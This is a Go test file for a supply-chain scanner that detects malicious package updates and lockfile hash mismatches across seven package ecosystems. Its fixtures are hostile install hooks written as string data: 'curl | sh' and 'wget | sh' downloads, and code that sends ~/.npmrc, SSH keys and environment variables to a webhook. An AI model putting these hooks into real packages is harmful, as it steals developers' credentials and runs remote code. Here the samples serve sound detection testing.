package content

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/mod/sumdb/dirhash"

	"github.com/tollgate-dev/tollgate/checks"
	"github.com/tollgate-dev/tollgate/lockfiles"
	"github.com/tollgate-dev/tollgate/registry"
	"github.com/tollgate-dev/tollgate/scanner"
)

// files of one package version, path to content.
type files map[string]string

// order returns the names of fs sorted, or reversed for a rebuild (same
// files, other bytes).
func order(fs files, rebuild bool) []string {
	names := slices.Sorted(maps.Keys(fs))
	if rebuild {
		slices.Reverse(names)
	}
	return names
}

func buildTar(t *testing.T, prefix string, fs files, gz, rebuild bool) []byte {
	t.Helper()
	var buf bytes.Buffer
	var w io.Writer = &buf
	var zw *gzip.Writer
	if gz {
		zw = gzip.NewWriter(&buf)
		w = zw
	}
	tw := tar.NewWriter(w)
	mtime := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	if rebuild {
		mtime = mtime.Add(time.Hour)
	}
	for _, name := range order(fs, rebuild) {
		if err := tw.WriteHeader(&tar.Header{Name: prefix + name, Mode: 0o644, Size: int64(len(fs[name])), Typeflag: tar.TypeReg, ModTime: mtime}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(fs[name]))
	}
	tw.Close()
	if zw != nil {
		zw.Close()
	}
	return buf.Bytes()
}

func buildZip(t *testing.T, prefix string, fs files, rebuild bool) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range order(fs, rebuild) {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: prefix + name, Method: zip.Deflate})
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(fs[name]))
	}
	zw.Close()
	return buf.Bytes()
}

func buildGem(t *testing.T, fs files, rebuild bool) []byte {
	t.Helper()
	meta := fs["metadata"]
	data := maps.Clone(fs)
	delete(data, "metadata")
	var mz bytes.Buffer
	zw := gzip.NewWriter(&mz)
	zw.Write([]byte(meta))
	zw.Close()
	return buildTar(t, "", files{"metadata.gz": mz.String(), "data.tar.gz": string(buildTar(t, "", data, true, rebuild))}, false, rebuild)
}

func hexSum(h func() []byte) string { return hex.EncodeToString(h()) }
func sha256Hex(b []byte) string     { return hexSum(func() []byte { s := sha256.Sum256(b); return s[:] }) }
func sha1Hex(b []byte) string       { return hexSum(func() []byte { s := sha1.Sum(b); return s[:] }) }
func sha512B64(b []byte) string {
	s := sha512.Sum512(b)
	return base64.StdEncoding.EncodeToString(s[:])
}

// h1 is go.sum's hash of a module zip, computed as the go command does.
func h1(t *testing.T, data []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	byName := map[string]*zip.File{}
	for _, f := range zr.File {
		names = append(names, f.Name)
		byName[f.Name] = f
	}
	sum, err := dirhash.Hash1(names, func(name string) (io.ReadCloser, error) { return byName[name].Open() })
	if err != nil {
		t.Fatal(err)
	}
	return sum
}

// fakeRegistry answers Package from versions, as the registry clients
// normalise their documents.
type fakeRegistry struct {
	eco      string
	mu       sync.Mutex
	versions map[string][]registry.Version // by package name
}

func (f *fakeRegistry) Ecosystem() string { return f.eco }

func (f *fakeRegistry) Package(_ context.Context, name string) (*registry.Package, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	vs, ok := f.versions[name]
	if !ok {
		return nil, &registry.Error{Registry: f.eco, Package: name, Err: registry.ErrNotFound}
	}
	p := &registry.Package{Ecosystem: f.eco, Name: name, Versions: slices.Clone(vs)}
	p.Finish()
	return p, nil
}

// ecoCase is one ecosystem's artifacts and lockfile entries.
type ecoCase struct {
	eco  string
	name string
	// build makes the artifact of a version's files.
	build func(t *testing.T, version string, fs files, rebuild bool) []byte
	// path is the artifact's URL path on the registry (its real shape).
	path func(version string) string
	// lock is the lockfile entry of a version whose artifact is data;
	// srv is the server's URL.
	lock func(t *testing.T, srv, version string, data []byte) lockfiles.Package
	// bases and registry metadata the case needs.
	base     string
	registry bool // the registry client names the URL and digest
	old, bad files
	want     string
	// file is the file of bad the finding names.
	file string
}

const (
	discord  = "https://discord.com/api/webhooks/1/TOKENTOKENTOKENTOKENTOKEN"
	pyBenign = "from setuptools import setup\nsetup(name='foo')\n"
)

func ecoCases() []ecoCase {
	pkg := func(eco, name, version, integrity, resolved string) lockfiles.Package {
		return lockfiles.Package{Ecosystem: eco, Name: name, Version: version, Path: "lock", Line: 3, Integrity: integrity, Resolved: resolved,
			PURL: lockfiles.PURL(eco, name, version, nil)}
	}
	return []ecoCase{{
		eco: lockfiles.EcosystemPyPI, name: "foo", registry: true,
		build: func(t *testing.T, v string, fs files, rb bool) []byte { return buildTar(t, "foo-"+v+"/", fs, true, rb) },
		path:  func(v string) string { return "/packages/3b/1f/9a0c/foo-" + v + ".tar.gz" },
		lock: func(t *testing.T, _, v string, data []byte) lockfiles.Package {
			// poetry.lock: the hashes of the release's files, unnamed.
			return pkg(lockfiles.EcosystemPyPI, "foo", v, "sha256:"+strings.Repeat("0", 64)+" sha256:"+sha256Hex(data), "")
		},
		old:  files{"setup.py": pyBenign, "foo/__init__.py": "x = 1\n"},
		bad:  files{"setup.py": "from setuptools import setup\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n" + pyBenign[len("from setuptools import setup\n"):], "foo/__init__.py": "x = 1\n"},
		want: "install-script-capability critical", file: "setup.py",
	}, {
		eco: lockfiles.EcosystemPyPI, name: "bar",
		build: func(t *testing.T, v string, fs files, rb bool) []byte { return buildZip(t, "", fs, rb) },
		path:  func(v string) string { return "/packages/aa/bb/cc/bar-" + v + "-py3-none-any.whl" },
		lock: func(t *testing.T, srv, v string, data []byte) lockfiles.Package {
			// uv.lock: the wheel's URL and hash.
			return pkg(lockfiles.EcosystemPyPI, "bar", v, "sha256:"+sha256Hex(data), srv+"/packages/aa/bb/cc/bar-"+v+"-py3-none-any.whl")
		},
		old:  files{"bar/__init__.py": "x = 1\n", "bar-1.0.dist-info/METADATA": "Name: bar\n"},
		bad:  files{"bar/__init__.py": "x = 1\n", "bar-1.0.dist-info/METADATA": "Name: bar\n", "bar_init.pth": "import os; os.system('curl -s https://x.example/i | sh')\n"},
		want: "install-script-capability high", file: "bar_init.pth",
	}, {
		eco: lockfiles.EcosystemRubyGems, name: "rgem",
		build: func(t *testing.T, v string, fs files, rb bool) []byte { return buildGem(t, fs, rb) },
		path:  func(v string) string { return "/gems/rgem-" + v + ".gem" },
		lock: func(t *testing.T, srv, v string, data []byte) lockfiles.Package {
			// Gemfile.lock: the GEM remote and the CHECKSUMS entry.
			return pkg(lockfiles.EcosystemRubyGems, "rgem", v, "sha256="+sha256Hex(data), srv+"/")
		},
		old:  files{"metadata": "name: rgem\nextensions:\n- ext/rgem/extconf.rb\n", "lib/rgem.rb": "1\n", "ext/rgem/extconf.rb": "require 'mkmf'\ncreate_makefile('rgem')\n"},
		bad:  files{"metadata": "name: rgem\nextensions:\n- ext/rgem/extconf.rb\n", "lib/rgem.rb": "1\n", "ext/rgem/extconf.rb": "require 'mkmf'\nsystem('make')\nsystem('curl -s https://x.example/i | sh')\ncreate_makefile('rgem')\n"},
		want: "install-script-capability high", file: "ext/rgem/extconf.rb",
	}, {
		eco: lockfiles.EcosystemNuGet, name: "Acme.Tool", registry: true, base: "nuget",
		build: func(t *testing.T, v string, fs files, rb bool) []byte { return buildZip(t, "", fs, rb) },
		path:  func(v string) string { return "/v3-flatcontainer/acme.tool/" + v + "/acme.tool." + v + ".nupkg" },
		lock: func(t *testing.T, _, v string, data []byte) lockfiles.Package {
			// packages.lock.json: contentHash, base64 SHA-512.
			return pkg(lockfiles.EcosystemNuGet, "Acme.Tool", v, sha512B64(data), "")
		},
		old:  files{"Acme.Tool.nuspec": "<package/>\n", "build/Acme.Tool.targets": "<Project>\n  <PropertyGroup><X>1</X></PropertyGroup>\n</Project>\n", "lib/net8.0/Acme.Tool.xml": "<doc/>\n"},
		bad:  files{"Acme.Tool.nuspec": "<package/>\n", "build/Acme.Tool.targets": "<Project>\n  <PropertyGroup><X>1</X></PropertyGroup>\n  <Target Name=\"X\" BeforeTargets=\"Build\"><Exec Command=\"curl -s -d @$(HOME)/.npmrc " + discord + "\" /></Target>\n</Project>\n", "lib/net8.0/Acme.Tool.xml": "<doc/>\n"},
		want: "install-script-capability critical", file: "build/Acme.Tool.targets",
	}, {
		eco: lockfiles.EcosystemCrates, name: "crab", base: "crates",
		build: func(t *testing.T, v string, fs files, rb bool) []byte {
			return buildTar(t, "crab-"+v+"/", fs, true, rb)
		},
		path: func(v string) string { return "/api/v1/crates/crab/" + v + "/download" },
		lock: func(t *testing.T, _, v string, data []byte) lockfiles.Package {
			// Cargo.lock: checksum, the .crate's SHA-256.
			return pkg(lockfiles.EcosystemCrates, "crab", v, sha256Hex(data), "registry+https://github.com/rust-lang/crates.io-index")
		},
		old:  files{"Cargo.toml": "[package]\nname = \"crab\"\nbuild = \"build.rs\"\n", "build.rs": "fn main() { cc::Build::new().file(\"x.c\").compile(\"x\"); }\n", "src/lib.rs": "pub fn f() {}\n"},
		bad:  files{"Cargo.toml": "[package]\nname = \"crab\"\nbuild = \"build.rs\"\n", "build.rs": "fn main() { cc::Build::new().file(\"x.c\").compile(\"x\");\n let e: Vec<_> = std::env::vars().collect();\n reqwest::blocking::Client::new().post(\"" + discord + "\").body(format!(\"{:?}\", e)).send().ok(); }\n", "src/lib.rs": "pub fn f() {}\n"},
		want: "install-script-capability critical", file: "build.rs",
	}, {
		eco: lockfiles.EcosystemGo, name: "example.com/gopher", base: "go",
		build: func(t *testing.T, v string, fs files, rb bool) []byte {
			return buildZip(t, "example.com/gopher@"+v+"/", fs, rb)
		},
		path: func(v string) string { return "/example.com/gopher/@v/" + v + ".zip" },
		lock: func(t *testing.T, _, v string, data []byte) lockfiles.Package {
			// go.sum: the h1 dirhash of the module zip.
			return pkg(lockfiles.EcosystemGo, "example.com/gopher", v, h1(t, data), "")
		},
		old:  files{"go.mod": "module example.com/gopher\n", "gopher.go": "package gopher\n\nfunc F() {}\n"},
		bad:  files{"go.mod": "module example.com/gopher\n", "gopher.go": "package gopher\n\nfunc F() {}\n", "init.go": "package gopher\n\nimport \"os/exec\"\n\nfunc init() { exec.Command(\"/bin/sh\", \"-c\", \"wget -O - http://45.61.1.1/x | sh\").Start() }\n"},
		want: "capability-with-threat critical", file: "init.go",
	}, {
		eco: lockfiles.EcosystemPackagist, name: "acme/widget",
		build: func(t *testing.T, v string, fs files, rb bool) []byte {
			return buildZip(t, "acme-widget-"+v+"/", fs, rb)
		},
		path: func(v string) string { return "/repos/acme/widget/zipball/" + v },
		lock: func(t *testing.T, srv, v string, data []byte) lockfiles.Package {
			// composer.lock: dist.url and dist.shasum.
			return pkg(lockfiles.EcosystemPackagist, "acme/widget", v, sha1Hex(data), srv+"/repos/acme/widget/zipball/"+v)
		},
		old:  files{"composer.json": "{}\n", "src/Widget.php": "<?php\nclass Widget {}\n"},
		bad:  files{"composer.json": "{}\n", "src/Widget.php": "<?php\nclass Widget {}\n", "src/boot.php": "<?php\n$o = shell_exec('cat ~/.ssh/id_rsa');\nfile_get_contents('" + discord + "?d=' . urlencode($o));\n"},
		want: "capability-with-threat critical", file: "src/boot.php",
	}}
}

// Per ecosystem: a malicious update is found, a rebuild of the same files
// is not, and an artifact that is not what was locked is a mismatch; all
// served from httptest at the registries' URL shapes.
func TestEcosystems(t *testing.T) {
	for _, tc := range ecoCases() {
		t.Run(tc.eco+"/"+tc.name, func(t *testing.T) {
			served := map[string][]byte{}
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				data, ok := served[r.URL.Path]
				if !ok {
					http.NotFound(w, r)
					return
				}
				w.Write(data)
			}))
			defer srv.Close()
			reg := &fakeRegistry{eco: tc.eco, versions: map[string][]registry.Version{}}
			publish := func(v string, data []byte) lockfiles.Package {
				served[tc.path(v)] = data
				reg.versions[tc.name] = append(reg.versions[tc.name], registry.Version{Version: v, ArtifactURL: srv.URL + tc.path(v), Digest: "sha256:" + sha256Hex(data)})
				return tc.lock(t, srv.URL, v, data)
			}
			oldData := tc.build(t, "1.0.0", tc.old, false)
			oldPkg := publish("1.0.0", oldData)
			badPkg := publish("1.0.1", tc.build(t, "1.0.1", tc.bad, false))
			rebuilt := publish("1.0.2", tc.build(t, "1.0.2", tc.old, true))
			if tc.eco == lockfiles.EcosystemGo {
				// Go versions carry a v.
				oldPkg = fixGo(t, tc, served, reg, srv.URL, "v1.0.0", tc.old, false)
				badPkg = fixGo(t, tc, served, reg, srv.URL, "v1.0.1", tc.bad, false)
				rebuilt = fixGo(t, tc, served, reg, srv.URL, "v1.0.2", tc.old, true)
			}
			opts := Options{HTTPClient: srv.Client(), MinBackoff: time.Millisecond, Bases: map[string]string{}}
			if tc.base != "" {
				opts.Bases[tc.base] = srv.URL
			}
			if tc.registry {
				opts.Registries = map[string]registry.Client{tc.eco: reg}
			}
			c := New(opts)
			run := func(p lockfiles.Package) ([]scanner.Finding, []scanner.Skipped) {
				prev := oldPkg
				return c.packages(t.Context(), &scanner.Input{Mode: scanner.ModePullRequest, Changes: []lockfiles.Change{{Kind: lockfiles.ChangeUpdated, Package: p, Previous: &prev}}})
			}
			got, skipped := run(badPkg)
			if len(skipped) != 0 || len(got) != 1 || got[0].RuleID+" "+got[0].Severity != tc.want || !strings.HasPrefix(got[0].Evidence, tc.file+": ") {
				t.Fatalf("malicious update: %s, skipped %+v", summarise(got), skipped)
			}
			t.Log(got[0].Message)
			label := checks.RegistryKey(tc.eco)
			if !strings.HasPrefix(got[0].Message, label+" "+tc.name+" "+badPkg.Version+" (updated from "+oldPkg.Version+") adds ") || strings.Contains(got[0].Message, "TOKENTOKENTOKEN") {
				t.Errorf("message %q", got[0].Message)
			}
			// A rebuild: the same files in another order and time.
			if got, skipped := run(rebuilt); len(got) != 0 || len(skipped) != 0 {
				t.Errorf("rebuild: %s, skipped %+v", summarise(got), skipped)
			}
			// The lockfile locked other bytes than the registry serves.
			tampered := badPkg
			tampered.Integrity = oldPkg.Integrity
			if tc.eco == lockfiles.EcosystemPyPI && tc.name == "foo" {
				tampered.Integrity = "sha256:" + sha256Hex(oldData)
				reg.versions[tc.name][1].Digest = tampered.Integrity // the registry's file is the locked one, its bytes are not
			}
			got, _ = run(tampered)
			if len(got) != 1 || got[0].RuleID != RuleIntegrityMismatch || got[0].Severity != scanner.SeverityCritical || !strings.HasPrefix(got[0].Message, label+" "+tc.name) {
				t.Errorf("mismatch: %s", summarise(got))
			}
		})
	}
}

// fixGo publishes a Go module version (versions start with v).
func fixGo(t *testing.T, tc ecoCase, served map[string][]byte, reg *fakeRegistry, srv, v string, fs files, rebuild bool) lockfiles.Package {
	data := tc.build(t, v, fs, rebuild)
	served[tc.path(v)] = data
	return tc.lock(t, srv, v, data)
}

func summarise(fs []scanner.Finding) string {
	var out []string
	for _, f := range fs {
		out = append(out, f.RuleID+" "+f.Severity+": "+f.Message)
	}
	sort.Strings(out)
	return strings.Join(out, "\n")
}

// poetry, Pipfile and requirements --hash lock each file of a PyPI release
// by its hash without naming it: the check downloads the registry's file
// whose hash is locked (the sdist first), and a release none of whose files
// is a locked one is a mismatch, even when the registry publishes the new
// files' digests (a mirror serving rebuilt files).
func TestPyPILockedFileChosenByHash(t *testing.T) {
	sdist := buildTar(t, "baz-1.0.0/", files{"setup.py": pyBenign, "baz/__init__.py": "x = 1\n"}, true, false)
	wheel := buildZip(t, "", files{"baz/__init__.py": "x = 1\n", "baz-1.0.0.dist-info/METADATA": "Name: baz\n"}, false)
	served := map[string][]byte{"/packages/s/baz-1.0.0.tar.gz": sdist, "/packages/w/baz-1.0.0-py3-none-any.whl": wheel}
	var mu sync.Mutex
	var fetched []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		fetched = append(fetched, r.URL.Path)
		mu.Unlock()
		if data, ok := served[r.URL.Path]; ok {
			w.Write(data)
			return
		}
		http.NotFound(w, r)
	}))
	defer srv.Close()
	release := func(sdistData, wheelData []byte) *fakeRegistry {
		return &fakeRegistry{eco: lockfiles.EcosystemPyPI, versions: map[string][]registry.Version{"baz": {{
			Version: "1.0.0", ArtifactURL: srv.URL + "/packages/s/baz-1.0.0.tar.gz", Digest: "sha256:" + sha256Hex(sdistData),
			Artifacts: []registry.Artifact{
				{Name: "baz-1.0.0-py3-none-any.whl", URL: srv.URL + "/packages/w/baz-1.0.0-py3-none-any.whl", Digest: "sha256:" + sha256Hex(wheelData), Kind: "bdist_wheel"},
				{Name: "baz-1.0.0.tar.gz", URL: srv.URL + "/packages/s/baz-1.0.0.tar.gz", Digest: "sha256:" + sha256Hex(sdistData), Kind: "sdist"},
			}}}}}
	}
	run := func(reg *fakeRegistry, integrity string) ([]scanner.Finding, []scanner.Skipped, []string) {
		mu.Lock()
		fetched = nil
		mu.Unlock()
		c := New(Options{HTTPClient: srv.Client(), MinBackoff: time.Millisecond, Registries: map[string]registry.Client{lockfiles.EcosystemPyPI: reg}})
		p := lockfiles.Package{Ecosystem: lockfiles.EcosystemPyPI, Name: "baz", Version: "1.0.0", Path: "poetry.lock", Line: 7, Integrity: integrity, PURL: "pkg:pypi/baz@1.0.0"}
		fs, sk := c.packages(t.Context(), &scanner.Input{Mode: scanner.ModePullRequest, Changes: []lockfiles.Change{{Kind: lockfiles.ChangeAdded, Package: p}}})
		mu.Lock()
		defer mu.Unlock()
		return fs, sk, slices.Clone(fetched)
	}
	// Both files locked: the sdist is fetched and verified.
	fs, sk, got := run(release(sdist, wheel), "sha256:"+sha256Hex(wheel)+" sha256:"+sha256Hex(sdist))
	if len(fs) != 0 || len(sk) != 0 || !slices.Equal(got, []string{"/packages/s/baz-1.0.0.tar.gz"}) {
		t.Errorf("both locked: findings %s, skipped %+v, fetched %v", summarise(fs), sk, got)
	}
	// Only the wheel locked: the wheel is fetched, not the sdist.
	fs, sk, got = run(release(sdist, wheel), "sha256:"+sha256Hex(wheel))
	if len(fs) != 0 || len(sk) != 0 || !slices.Equal(got, []string{"/packages/w/baz-1.0.0-py3-none-any.whl"}) {
		t.Errorf("wheel locked: findings %s, skipped %+v, fetched %v", summarise(fs), sk, got)
	}
	// The registry's files are not the locked ones, though it publishes
	// their digests: a mismatch, naming why.
	rebuiltSdist := buildTar(t, "baz-1.0.0/", files{"setup.py": pyBenign + "# rebuilt\n", "baz/__init__.py": "x = 1\n"}, true, false)
	served["/packages/s/baz-1.0.0.tar.gz"] = rebuiltSdist
	fs, _, _ = run(release(rebuiltSdist, []byte("another wheel")), "sha256:"+sha256Hex(wheel)+" sha256:"+sha256Hex(sdist))
	if len(fs) != 1 || fs[0].RuleID != RuleIntegrityMismatch || fs[0].Severity != scanner.SeverityCritical ||
		!strings.Contains(fs[0].Message, "none of the registry's 2 files of this release hashes to one of the lockfile's 2 hashes") {
		t.Errorf("files not the locked ones: %s %v", summarise(fs), fs)
	}
}
